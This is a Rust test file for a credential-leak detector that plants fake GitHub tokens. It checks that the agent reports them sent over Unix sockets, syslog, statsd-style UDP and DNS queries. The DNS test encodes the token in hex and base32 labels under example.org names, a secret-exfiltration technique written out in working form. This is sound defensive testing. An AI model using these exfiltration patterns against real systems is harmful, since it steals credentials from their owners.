//! Credentials that leave over Unix sockets and by UDP, and sends there that carry none.

use super::{count, sent};
use crate::{
    agent::Agent,
    command::{Background, act, sh},
    events::{Ask as _, Event},
    machine::{Scratch, kernel, patience, turn, wait_for},
    plant,
};
use std::{
    fs,
    net::UdpSocket,
    os::unix::net::UnixDatagram,
    path::Path,
    sync::{Arc, Mutex},
};

/// Kernels before 6.3 may not report these.
fn reported() -> bool {
    let reported = kernel() >= (6, 3);
    if !reported {
        eprintln!("skipped: this kernel has no tracepoint for it");
    }
    reported
}

/// An HTTP API on a Unix socket, by Python: keeps the requests in a file.
fn unix_api(socket: &Path, log: &Path) -> Background {
    const SERVER: &str = "import socket,sys
s=socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1])
s.listen()
f=open(sys.argv[2],'ab',0)
while True:
  c,_=s.accept()
  d=b''
  while b'\\r\\n\\r\\n' not in d:
    p=c.recv(65536)
    if not p: break
    d+=p
  f.write(d)
  try: c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n')
  except OSError: pass
  c.close()";
    let server = act("/usr/bin/python3")
        .args(["-c", SERVER])
        .arg(socket)
        .arg(log)
        .spawn();
    wait_for("the API", patience(20), || {
        std::os::unix::net::UnixStream::connect(socket).ok()
    });
    server
}

/// Keeps what arrives on a socket of this test, a datagram each; its thread ends with the test program.
#[derive(Clone, Default)]
struct Kept(Arc<Mutex<Vec<Vec<u8>>>>);

impl Kept {
    fn keep(&self, mut receive: impl FnMut(&mut [u8]) -> usize + Send + 'static) {
        let kept = self.clone();
        std::thread::spawn(move || {
            let mut buffer = [0; 65_536];
            loop {
                let length = receive(&mut buffer);
                kept.0.lock().unwrap().push(buffer[..length].to_vec());
            }
        });
    }

    fn has(&self, needle: &str) -> bool {
        let all = self.0.lock().unwrap();
        all.iter()
            .any(|bytes| String::from_utf8_lossy(bytes).contains(needle))
    }

    /// A UDP socket on this address that keeps what comes; its port.
    fn udp(address: &str) -> (Self, u16) {
        let kept = Self::default();
        let socket = UdpSocket::bind(address).unwrap();
        let port = socket.local_addr().unwrap().port();
        kept.keep(move |buffer| socket.recv(buffer).unwrap());
        (kept, port)
    }
}

fn to(event: &Event) -> &keytrail_proto::v1::Destination {
    event.destination.as_ref().unwrap()
}

/// A client of a local API, as of docker's: what it sent, by which socket, and to whom.
pub fn curl_to_an_api_on_a_unix_socket() {
    let _turn = turn();
    if !reported() {
        return;
    }
    let scratch = Scratch::new();
    let (socket, log) = (scratch.join("api.sock"), scratch.join("requests"));
    let server = unix_api(&socket, &log);
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let done = sh("curl -s --unix-socket \"$1\" -H \"Authorization: Bearer $GITHUB_TOKEN\" http://api/v1/things; \
                   curl -s --unix-socket \"$1\" http://api/v1/other; :")
        .arg(&socket)
        .env(token.name, &token.value)
        .run()
        .ok();
    let kept = fs::read_to_string(&log).unwrap();
    assert!(kept.contains(&token.value) && kept.contains("/v1/other"));
    agent.expect("the send", done.pid, |e| {
        e.is("credential_sent") && e.in_tree(done.pid)
    });
    agent.wait_idle();
    // The second request carried nothing: no lineage over Unix sockets.
    let sent = sent(&agent, done.pid);
    count(&sent, 1, "sends");
    let text = sent[0].brief();
    assert_eq!(
        (sent[0].grade(), sent[0].channel()),
        ("observed", "unix"),
        "{text}"
    );
    assert_eq!(sent[0].found_by(), "socket", "{text}");
    let to = to(&sent[0]);
    assert_eq!(to.protocol, "unix", "{text}");
    assert_eq!(Path::new(&to.socket_path), socket, "{text}");
    let peer = to.peer.as_ref().expect("who listens");
    assert_eq!(peer.pid, server.pid(), "{text}");
    assert!(peer.executable.contains("python3"), "{peer:?}");
    assert_eq!(
        sent[0].request.as_ref().unwrap().path,
        "/v1/things",
        "{text}"
    );
}

/// Two writes with a half each, and an answer of the side that accepted.
pub fn halves_and_answers_over_a_unix_socket() {
    let _turn = turn();
    if !reported() {
        return;
    }
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let script = "import os,socket,sys
t=os.environ['GITHUB_TOKEN'].encode()
l=socket.socket(socket.AF_UNIX)
l.bind('\\0'+sys.argv[1])
l.listen()
child=os.fork()
if not child:
  c=socket.socket(socket.AF_UNIX)
  c.connect('\\0'+sys.argv[1])
  c.send(b'a='+t[:20])
  c.send(t[20:]+b'\\n')
  n=b''
  while len(n)<len(t): n+=c.recv(100)
  os._exit(0)
s,_=l.accept()
n=b''
while len(n)<len(t)+3: n+=s.recv(100)
s.send(t)
os.waitpid(child,0)";
    let name = format!("keytrail-halves-{}", std::process::id());
    let done = act("/usr/bin/python3")
        .args(["-c", script, &name])
        .env(token.name, &token.value)
        .run()
        .ok();
    wait_for("both sends", patience(10), || {
        (sent(&agent, done.pid).len() >= 2).then_some(())
    });
    agent.wait_idle();
    let sent = sent(&agent, done.pid);
    count(&sent, 2, "sends");
    for event in &sent {
        let text = event.brief();
        assert_eq!(
            (event.grade(), event.channel()),
            ("observed", "unix"),
            "{text}"
        );
        assert_eq!(to(event).socket_path, format!("@{name}"), "{text}");
        let peer = to(event).peer.as_ref().expect("the other end");
        assert!(peer.pid != 0 && peer.pid != event.pid(), "{text}");
        let accepted = event.pid() == done.pid;
        assert_eq!(to(event).direction == 2, accepted, "{text}");
    }
}

/// A holder that logs: with the secret in it, and without, which is nothing.
pub fn what_is_logged() {
    let _turn = turn();
    if !reported() {
        return;
    }
    let scratch = Scratch::new();
    let log = scratch.join("log");
    let socket = UnixDatagram::bind(&log).unwrap();
    let kept = Kept::default();
    kept.keep(move |buffer| socket.recv(buffer).unwrap());
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let logs = |text: &str| {
        // The shell gives the text by a pipe: nothing is in arguments.
        sh("printf '%s\\n' \"$2\" \"$(eval echo \"$3\")\" | logger -u \"$1\"; :")
            .arg(&log)
            .arg("a line of its own")
            .arg(text)
            .env(token.name, &token.value)
            .run()
            .ok()
    };
    let benign = logs("nothing");
    let leaking = logs("token=$GITHUB_TOKEN");
    wait_for("the log", patience(5), || {
        (kept.has(&token.value) && kept.has("nothing")).then_some(())
    });
    let event = agent.expect("the send", leaking.pid, |e| {
        e.is("credential_sent") && e.in_tree(leaking.pid) && e.channel() != "pipe"
    });
    agent.wait_idle();
    count(&sent(&agent, leaking.pid), 1, "sends");
    count(
        &sent(&agent, benign.pid),
        0,
        "sends of who logs nothing of it",
    );
    let text = event.brief();
    assert_eq!(
        (event.grade(), event.channel()),
        ("observed", "unix"),
        "{text}"
    );
    assert!(event.executable().ends_with("/logger"), "{text}");
    assert_eq!(Path::new(&to(&event).socket_path), log, "{text}");
    assert!(to(&event).peer.is_none(), "{text}");
}

/// statsd and syslog by UDP: what was sent and where to; of what carries nothing, once for each peer, that a holder sent.
pub fn datagrams() {
    let _turn = turn();
    if !reported() {
        return;
    }
    let scratch = Scratch::new();
    let (kept, port) = Kept::udp("127.0.0.1:0");
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let python = |script: &str| {
        let script = format!(
            "import os,socket,sys
t=os.environ['GITHUB_TOKEN'].encode()
to=('127.0.0.1',int(sys.argv[1]))
def new(): return socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
{script}"
        );
        act("/usr/bin/python3")
            .args(["-c", &script])
            .arg(port.to_string())
            .env(token.name, &token.value)
            .run()
            .ok()
    };
    let one = |done: u32| {
        agent.expect("the send", done, |e| {
            e.is("credential_sent") && e.in_tree(done)
        });
        agent.wait_idle();
        let sent = sent(&agent, done);
        count(&sent, 1, "sends");
        sent[0].clone()
    };
    for script in [
        "new().sendto(b'a:1|c|#'+t,to)",
        "s=new()\ns.connect(to)\ns.send(b'<13>key '+t)",
    ] {
        let event = one(python(script).pid);
        let text = event.brief();
        assert_eq!(
            (event.grade(), event.channel()),
            ("observed", "udp"),
            "{text}"
        );
        assert_eq!(event.peer(), ("127.0.0.1", u32::from(port)), "{text}");
        assert_eq!(to(&event).protocol, "udp", "{text}");
    }
    assert!(kept.has(&token.value));
    let event = one(python("for n in range(5): new().sendto(b'app.count:1|c',to)").pid);
    let text = event.brief();
    assert_eq!(
        (event.grade(), event.channel()),
        ("lineage", "udp"),
        "{text}"
    );
    assert_eq!(event.peer(), ("127.0.0.1", u32::from(port)), "{text}");
}

/// Names that the real resolver asks for: a secret in their labels, and a holder that asks for names as everybody does.
pub fn secrets_in_names() {
    let _turn = turn();
    if !reported() {
        return;
    }
    let scratch = Scratch::new();
    // An address of the loopback that no resolver of the host is likely to have.
    let (kept, _) = Kept::udp("127.53.53.1:53");
    let resolver = scratch.join("resolv.conf");
    fs::write(
        &resolver,
        "nameserver 127.53.53.1\noptions timeout:1 attempts:1\n",
    )
    .unwrap();
    let nss = scratch.join("nsswitch.conf");
    fs::write(&nss, "hosts: dns\n").unwrap();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let ask = |name: &str| {
        // getent in a place where that resolver is the system's.
        sh("exec unshare -m sh -c 'mount --bind \"$1\" /etc/resolv.conf && mount --bind \"$2\" /etc/nsswitch.conf && getent ahosts \"$3\"; :' sh \"$@\"")
            .arg(&resolver)
            .arg(&nss)
            .arg(name)
            .env(token.name, &token.value)
            .run()
            .ok()
            .pid
    };
    let hex: String = token.value.bytes().map(|b| format!("{b:02x}")).collect();
    let (one, two) = hex.split_at(45);
    let benign = ask("www.example.org");
    let leaking = ask(&format!("{one}.{two}.x.example.org"));
    wait_for("the questions", patience(5), || {
        (kept.has(one) && kept.has("example")).then_some(())
    });
    agent.expect("the send", leaking, |e| {
        e.is("credential_sent") && e.in_tree(leaking)
    });
    agent.expect("its finding", leaking, |e| {
        e.in_tree(leaking) && e.finding.as_ref().is_some_and(|f| f.rule == "in-dns")
    });
    // As the program of coreutils writes it, in labels of the length that fits.
    let encoded = sh("base32 --wrap=0 | tr -d = | tr A-Z a-z")
        .stdin(token.value.clone())
        .run()
        .ok()
        .stdout_text();
    let (three, four) = encoded.trim().split_at(40);
    let leaking32 = ask(&format!("1.{three}.{four}.x.example.org"));
    agent.expect("the send in base32", leaking32, |e| {
        e.is("credential_sent") && e.in_tree(leaking32)
    });
    agent.wait_idle();
    count(&sent(&agent, benign), 0, "sends of who asks for a name");
    let both = [(leaking, "hex"), (leaking32, "base32")];
    for (pid, transform) in both {
        names_reported(&sent(&agent, pid), transform);
    }
}

/// Both kinds of addresses are asked for.
fn names_reported(sent: &[Event], transform: &str) {
    assert!(!sent.is_empty());
    for event in sent {
        let text = event.brief();
        assert_eq!(
            (event.grade(), event.channel()),
            ("observed", "udp"),
            "{text}"
        );
        assert_eq!(event.transform(), transform, "{text}");
        assert_eq!(event.peer(), ("127.53.53.1", 53), "{text}");
        assert!(event.executable().ends_with("/getent"), "{text}");
    }
}
